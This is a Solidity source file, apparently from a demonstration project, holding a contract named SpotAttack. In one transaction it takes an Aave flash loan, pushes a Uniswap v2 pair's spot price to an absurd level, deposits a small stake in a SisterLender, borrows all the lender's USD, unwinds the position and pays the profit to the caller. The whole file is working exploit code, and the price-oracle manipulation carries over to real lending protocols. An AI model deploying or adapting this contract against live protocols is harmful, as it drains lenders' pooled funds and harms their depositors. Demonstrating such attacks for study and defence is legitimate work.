// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IPriceSource, SisterLender} from "./SisterLender.sol";

/// What the attack uses of an Aave v3 pool.
interface IFlashPool {
    function flashLoanSimple(address receiver, address asset, uint256 amount, bytes calldata params, uint16 referral)
        external;
}

/// What the attack uses of a Uniswap v2 pair.
interface ISwapPair is IPriceSource {
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// The attack of the demonstration on a `SisterLender`, in one transaction: borrow USD from Aave, buy collateral until
/// the pair's price is absurd, lock a little of it, borrow all the lender has, sell the rest, repay, keep the profit.
contract SpotAttack {
    IFlashPool public immutable pool;

    error NotTheLoan();
    error NoProfit();

    constructor(IFlashPool pool_) {
        pool = pool_;
    }

    /// Robs `lender` with a loan of `flash` USD, leaving `stake` of the collateral bought. The caller takes the profit.
    function attack(SisterLender lender, uint256 flash, uint256 stake) external returns (uint256 profit) {
        IERC20 usd = lender.usd();
        pool.flashLoanSimple(address(this), address(usd), flash, abi.encode(lender, stake), 0);
        profit = usd.balanceOf(address(this));
        if (profit == 0) revert NoProfit();
        usd.transfer(msg.sender, profit);
    }

    /// Called back by Aave with the loan.
    function executeOperation(address, uint256 amount, uint256 premium, address initiator, bytes calldata params)
        external
        returns (bool)
    {
        if (msg.sender != address(pool) || initiator != address(this)) revert NotTheLoan();
        (SisterLender lender, uint256 stake) = abi.decode(params, (SisterLender, uint256));
        IERC20 usd = lender.usd();
        IERC20 collateral = lender.collateral();
        ISwapPair pair = ISwapPair(address(lender.pair()));

        uint256 bought = _swap(pair, usd, amount);
        collateral.approve(address(lender), stake);
        lender.deposit(stake);
        lender.borrow(usd.balanceOf(address(lender)));
        _swap(pair, collateral, bought - stake);
        usd.approve(msg.sender, amount + premium);
        return true;
    }

    function _swap(ISwapPair pair, IERC20 sold, uint256 amount) private returns (uint256 bought) {
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        bool first = pair.token0() == address(sold);
        (uint256 from, uint256 to) = first ? (reserve0, reserve1) : (reserve1, reserve0);
        bought = amount * 997 * to / (from * 1000 + amount * 997);
        sold.transfer(address(pair), amount);
        pair.swap(first ? 0 : bought, first ? bought : 0, address(this), "");
    }
}
